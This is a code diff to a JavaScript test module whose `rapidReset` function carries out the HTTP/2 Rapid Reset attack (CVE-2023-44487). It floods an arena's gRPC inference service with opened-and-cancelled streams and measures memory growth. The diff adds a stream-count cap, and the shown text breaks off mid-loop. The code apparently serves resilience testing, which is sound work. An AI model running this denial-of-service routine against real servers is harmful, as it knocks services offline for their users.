@@ -5,15 +5,18 @@ import { SLACK } from './raw.mjs';
 const CANCEL = 8;
 const BATCH = 500;
 
-/** Opens streams and resets them at once (CVE-2023-44487), for `ms`. Resolves with their number and the growth in KiB. */
-export async function rapidReset(arena, { ms }) {
+/**
+ * Opens streams and resets them at once (CVE-2023-44487), for `ms` or `most` of them. Resolves with their number and the
+ * growth in KiB.
+ */
+export async function rapidReset(arena, { ms = Infinity, most = Infinity }) {
   const before = arena.residentKb(arena.inference);
   const connection = await H2Connection.open(arena.grpc);
   const headers = callHeaders('/runnel.v1.InferenceService/Generate');
   const code = Buffer.from([0, 0, 0, CANCEL]);
   const until = performance.now() + ms * SLACK;
   let streams = 0;
-  while (performance.now() < until && !connection.raw.ended) {
+  while (performance.now() < until && streams < most && !connection.raw.ended) {
     const batch = [];
     for (let i = 0; i < BATCH; i++) {
       const id = 2 * streams++ + 1;
